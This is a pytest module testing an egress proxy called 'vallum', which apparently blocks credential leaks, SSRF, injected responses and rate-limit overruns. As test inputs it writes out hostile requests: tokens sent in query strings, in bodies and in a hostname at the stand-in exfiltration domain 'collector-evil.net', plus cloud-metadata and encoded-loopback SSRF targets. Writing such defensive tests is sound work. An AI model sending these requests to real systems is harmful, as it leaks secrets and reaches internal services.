"""INTERFACES §1 `vallum proxy --listen`, §3 egress keys and modes, §4 the egress proxy.

Only loopback is ever dialled: the upstream is exempted with `egress.allow_private`, and every
"forbidden" target is a loopback port that is *not* exempted, or a name the policy refuses before
any lookup.
"""

from __future__ import annotations

import socket
import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
import samples as S
from acc_support import Daemon, Proxy, Upstream, free_port, write_yaml

BLOCK_KEYS = {"action", "rule", "category", "message", "request_id"}


def assert_block(r: httpx.Response, category: str | None = None, status: int = 403) -> dict[str, Any]:
    assert r.status_code == status, (r.status_code, r.text[:500])
    assert r.headers.get("x-vallum-action", "").lower() == "block", dict(r.headers)
    body = r.json()
    assert set(body) >= BLOCK_KEYS, body
    assert body["action"] == "block"
    if category:
        assert body["category"] == category, body
    return body


@pytest.fixture(scope="module")
def proxies(tmp_path_factory: pytest.TempPathFactory, upstream: Upstream) -> Iterator[dict[str, Proxy]]:
    """Every proxy this module needs, started at once (start-up dominates)."""
    allow = [f"127.0.0.1:{upstream.port}"]
    configs = {
        "balanced": {"egress": {"allow_private": allow}},
        "rate": {"egress": {"allow_private": allow, "rate_limit_per_minute": 3}},
        "budget": {"egress": {"allow_private": allow, "data_budget_per_minute": 2000, "rate_limit_per_minute": 0}},
        "audit": {"mode": "audit", "egress": {"allow_private": allow, "rate_limit_per_minute": 2}},
        "strict": {"mode": "strict", "egress": {"allow_private": allow, "allowlist": ["*.example.com"]}},
    }
    work = tmp_path_factory.mktemp("proxies")
    started: dict[str, Proxy] = {}
    try:
        for name, cfg in configs.items():
            port = free_port()
            path = write_yaml(work / f"{name}.yaml", {"data_dir": str(work / name), **cfg})
            d = Daemon(["proxy", "--listen", f"127.0.0.1:{port}", "--config", str(path)], port, work, cwd=work)
            started[name] = Proxy(port, d)
        for p in started.values():
            p.daemon.wait_ready()
        yield started
    finally:
        for p in started.values():
            p.daemon.stop()


@pytest.fixture(scope="module")
def proxy(proxies: dict[str, Proxy]) -> Proxy:
    return proxies["balanced"]


def test_banner_names_the_listen_address(proxy: Proxy) -> None:
    time.sleep(0.2)
    assert f"127.0.0.1:{proxy.port}" in proxy.daemon.stdout + proxy.daemon.stderr


def test_forward_plain_http(proxy: Proxy, upstream: Upstream) -> None:
    with proxy.client() as c:
        r = c.get(upstream.url("/hello?page=2"))
        assert r.status_code == 200, r.text
        assert r.json()["path"] == "/hello?page=2"
        r = c.post(upstream.url("/tickets"), json={"title": "Printer offline", "priority": "low"})
        assert r.status_code == 200 and r.json()["received"] > 0


def test_credential_in_query_blocked_before_sending(proxy: Proxy, upstream: Upstream) -> None:
    before = len(upstream.seen)
    with proxy.client() as c:
        r = c.get(upstream.url(f"/cb?token={S.GITHUB}"))
    body = assert_block(r, "credential")
    assert S.GITHUB not in r.text
    assert body["request_id"]
    assert len(upstream.seen) == before


@pytest.mark.parametrize("where", ["header", "json", "form"])
def test_credential_in_headers_and_body_blocked(proxy: Proxy, upstream: Upstream, where: str) -> None:
    before = len(upstream.seen)
    with proxy.client() as c:
        if where == "header":
            r = c.get(upstream.url("/me"), headers={"X-Api-Key": S.STRIPE})
        elif where == "json":
            r = c.post(upstream.url("/ingest"), json={"aws": {"id": S.AWS_ID, "secret": S.AWS_SECRET}})
        else:
            r = c.post(upstream.url("/form"), data={"name": "ci", "token": S.GITHUB})
    assert_block(r, "credential")
    assert len(upstream.seen) == before


def test_ssrf_to_a_loopback_port_not_exempted(proxy: Proxy) -> None:
    closed = free_port()
    with proxy.client() as c:
        for url in (f"http://127.0.0.1:{closed}/admin", f"http://0x7f000001:{closed}/", f"http://2130706433:{closed}/"):
            assert_block(c.get(url), "ssrf")
    # httpx drops the brackets of an IPv6 literal in absolute-form; send the request as curl does
    resp = _raw(proxy.port, f"GET http://[::ffff:127.0.0.1]:{closed}/ HTTP/1.1\r\n"
                            f"Host: [::ffff:127.0.0.1]:{closed}\r\n\r\n".encode())
    assert resp.split(b"\r\n")[0].split(b" ")[1] == b"403", resp[:300]
    assert b"x-vallum-action: block" in resp.lower()


def test_url_policy_blocks(proxy: Proxy) -> None:
    with proxy.client() as c:
        assert_block(c.get("http://pastebin.com/raw/abc123"))
        assert_block(c.get("http://metadata.google.internal/computeMetadata/v1/"), "ssrf")


def test_injected_response_blocked_clean_passes(proxy: Proxy, upstream: Upstream) -> None:
    with proxy.client() as c:
        assert_block(c.get(upstream.url("/inject")), "injection")
        r = c.get(upstream.url("/clean"))
        assert r.status_code == 200 and "Forecast" in r.text


def _raw(port: int, data: bytes, timeout: float = 10) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        s.sendall(data)
        buf = b""
        deadline = time.monotonic() + timeout
        while b"\r\n\r\n" not in buf and time.monotonic() < deadline:
            chunk = s.recv(65536)
            if not chunk:
                break
            buf += chunk
        head, _, rest = buf.partition(b"\r\n\r\n")
        length = 0
        for line in head.split(b"\r\n")[1:]:
            k, _, v = line.partition(b":")
            if k.strip().lower() == b"content-length":
                length = int(v)
        while len(rest) < length and time.monotonic() < deadline:
            chunk = s.recv(65536)
            if not chunk:
                break
            rest += chunk
        return head + b"\r\n\r\n" + rest


def test_connect_blocked_gets_403_not_200(proxy: Proxy) -> None:
    closed = free_port()
    for target in (f"127.0.0.1:{closed}", "pastebin.com:443", "169.254.169.254:443"):
        resp = _raw(proxy.port, f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        head, _, body = resp.partition(b"\r\n\r\n")
        status = head.split(b"\r\n")[0]
        assert b" 403 " in status + b" ", (target, resp[:300])
        assert b"x-vallum-action: block" in head.lower(), head
        import json

        assert set(json.loads(body)) >= BLOCK_KEYS, body


def test_connect_allowed_tunnels(proxy: Proxy, upstream: Upstream) -> None:
    target = f"127.0.0.1:{upstream.port}"
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=10) as s:
        s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        head = b""
        while b"\r\n\r\n" not in head:
            chunk = s.recv(1)
            assert chunk, head
            head += chunk
        assert head.startswith(b"HTTP/1.1 200"), head


def test_fetch_endpoint(proxy: Proxy, upstream: Upstream) -> None:
    c = httpx.Client(timeout=30, trust_env=False)
    r = c.get(f"{proxy.url}/fetch", params={"url": upstream.url("/clean")})
    assert r.status_code == 200, r.text
    body = r.json()
    assert {"url", "status", "content_type", "content", "findings"} <= set(body)
    assert body["status"] == 200 and "Sunny" in body["content"] and "<p>" not in body["content"]
    assert body["findings"] == [] or all(f["action"] != "block" for f in body["findings"])
    assert_block(c.get(f"{proxy.url}/fetch", params={"url": upstream.url("/inject")}), "injection")
    assert_block(c.get(f"{proxy.url}/fetch", params={"url": f"http://127.0.0.1:{free_port()}/"}), "ssrf")
    assert_block(c.get(f"{proxy.url}/fetch", params={"url": f"{upstream.url('/x')}?key={S.GITHUB}"}), "credential")


def test_rate_limit_per_domain_429(proxies: dict[str, Proxy], upstream: Upstream) -> None:
    p = proxies["rate"]
    with p.client() as c:
        codes = [c.get(upstream.url(f"/n{i}")).status_code for i in range(3)]
        assert codes == [200, 200, 200]
        r = c.get(upstream.url("/n4"))
    assert_block(r, "rate_limit", status=429)


def test_data_budget_429(proxies: dict[str, Proxy], upstream: Upstream) -> None:
    p = proxies["budget"]
    with p.client() as c:
        assert c.post(upstream.url("/up"), content=b"a" * 1500).status_code == 200
        r = c.post(upstream.url("/up"), content=b"b" * 1500)
    assert_block(r, "rate_limit", status=429)


def test_audit_mode_blocks_nothing(proxies: dict[str, Proxy], upstream: Upstream) -> None:
    p = proxies["audit"]
    with p.client() as c:
        r = c.get(upstream.url(f"/cb?token={S.GITHUB}"))
        assert r.status_code == 200 and r.headers.get("x-vallum-action", "").lower() == "warn"
        r = c.get(upstream.url("/inject"))
        assert r.status_code == 200 and "Release notes" in r.text
        assert all(c.get(upstream.url(f"/r{i}")).status_code == 200 for i in range(3))  # over the limit: warn


def test_strict_mode_only_allowlist(proxies: dict[str, Proxy], upstream: Upstream) -> None:
    p = proxies["strict"]
    with p.client() as c:
        assert_block(c.get(upstream.url("/x")))
        resp = _raw(p.port, b"CONNECT news.other-site.org:443 HTTP/1.1\r\nHost: news.other-site.org:443\r\n\r\n")
        assert resp.split(b"\r\n")[0].split(b" ")[1] == b"403", resp[:200]


def test_secret_in_host_name_blocked_before_any_lookup(proxy: Proxy) -> None:
    """A name that fails the URL policy is never resolved: the answer is the policy's 403, not a
    DNS failure (this machine has no resolver that could answer)."""
    host = f"{S.GITHUB}.collector-evil.net"
    with proxy.client() as c:
        body = assert_block(c.get(f"http://{host}/x"), "credential")
    assert S.GITHUB not in str(body)
    resp = _raw(proxy.port, f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
    assert resp.split(b"\r\n")[0].split(b" ")[1] == b"403", resp[:300]
